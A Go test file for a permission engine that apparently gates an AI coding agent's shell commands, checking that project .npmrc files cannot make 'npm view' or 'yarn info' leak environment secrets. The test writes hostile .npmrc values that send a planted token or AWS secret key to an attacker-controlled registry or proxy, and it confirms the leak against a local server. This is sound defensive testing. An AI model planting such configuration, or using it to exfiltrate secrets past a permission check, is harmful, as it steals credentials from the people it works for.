package engine_test

import (
	"context"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/permopa/permopa/engine"
	"github.com/permopa/permopa/permission"
	"github.com/permopa/permopa/settings"
)

// A project .npmrc that names its own registry and writes ${NAME} into a
// value sends the environment's NAME there with `npm view`, a read-only
// command by its words (docs/shell.md, "What a program reads besides its
// argv"). The real npm is run against a registry on loopback first: the
// token arrives, so the case proves the effect; then the decision on
// that project must not be ALLOW, under an allow rule for the command
// too, while the usual CI setup (the token scoped to registry.npmjs.org)
// stays read-only.
func TestProjectNpmrcCannotSendEnvironmentElsewhere(t *testing.T) {
	t.Parallel()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, p := filepath.Join(root, "home"), filepath.Join(root, "p")
	writeModeFile(t, filepath.Join(p, "package.json"), `{"name": "p", "version": "1.0.0"}`, 0o644)

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var seen []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Get("Authorization"))
		mu.Unlock()
		http.NotFound(w, r)
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	host := ln.Addr().String()
	hostile := "registry=http://" + host + "/\n//" + host + "/:_authToken=${PLANTED_TOKEN}\n"

	if _, err := exec.LookPath("npm"); err == nil {
		writeModeFile(t, filepath.Join(p, ".npmrc"), hostile, 0o644)
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, "npm", "view", "left-pad")
		cmd.Dir = p
		cmd.Env = append(os.Environ(), "HOME="+home, "PLANTED_TOKEN=s3cr3t-from-env",
			"npm_config_cache="+filepath.Join(root, "cache"), "npm_config_update_notifier=false")
		out, _ := cmd.CombinedOutput()
		mu.Lock()
		got := strings.Join(seen, " ")
		mu.Unlock()
		if !strings.Contains(got, "s3cr3t-from-env") {
			t.Fatalf("real npm view did not send the variable to the project's registry: the case proves nothing (headers %q)\n%s", got, out)
		}
	}

	ctx := context.Background()
	eng, err := newEngine(ctx, engine.WithSettings(settings.Settings{Home: home, Cwd: p,
		Rules: []permission.Rule{mustRule(t, "Bash(npm view:*)"), mustRule(t, "Bash(npm ls:*)"), mustRule(t, "Bash(yarn info:*)")}}))
	if err != nil {
		t.Fatal(err)
	}
	decide := func(cmd, mode string) permission.Decision {
		return eng.Decide(ctx, map[string]any{"tool_name": "Bash", "tool_input": map[string]any{"command": cmd},
			"cwd": p, "permission_mode": mode})
	}
	for _, c := range []struct{ body, cmd string }{
		{hostile, "npm view left-pad"},
		{hostile, "yarn info left-pad"},
		{"@x:registry=http://" + host + "/\nuser-agent=${AWS_SECRET_ACCESS_KEY}\n", "npm view @x/y"},
		{"https-proxy=http://" + host + "/\nstrict-ssl=false\n", "npm view left-pad"},
	} {
		writeModeFile(t, filepath.Join(p, ".npmrc"), c.body, 0o644)
		if d := decide(c.cmd, "plan"); d.Behavior == permission.Allow {
			t.Errorf("plan: %q with .npmrc %q: ALLOW (%s)", c.cmd, c.body, d.Message)
		}
		if d := decide(c.cmd, "default"); d.Behavior != permission.Ask || !d.BypassImmune || !strings.Contains(d.Message, ".npmrc") {
			t.Errorf("default, allow rule: %q with .npmrc %q: %s/%s (%s), want a safety ASK naming .npmrc", c.cmd, c.body, d.Behavior, d.Step, d.Message)
		}
	}
	writeModeFile(t, filepath.Join(p, ".npmrc"), "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nsave-exact=true\n", 0o644)
	for _, cmd := range []string{"npm view left-pad", "npm ls"} {
		if d := decide(cmd, "plan"); d.Behavior != permission.Allow || d.Step != permission.StepReadOnly {
			t.Errorf("the CI token setup: plan: %q: %s/%s (%s), want read-only", cmd, d.Behavior, d.Step, d.Message)
		}
	}
}
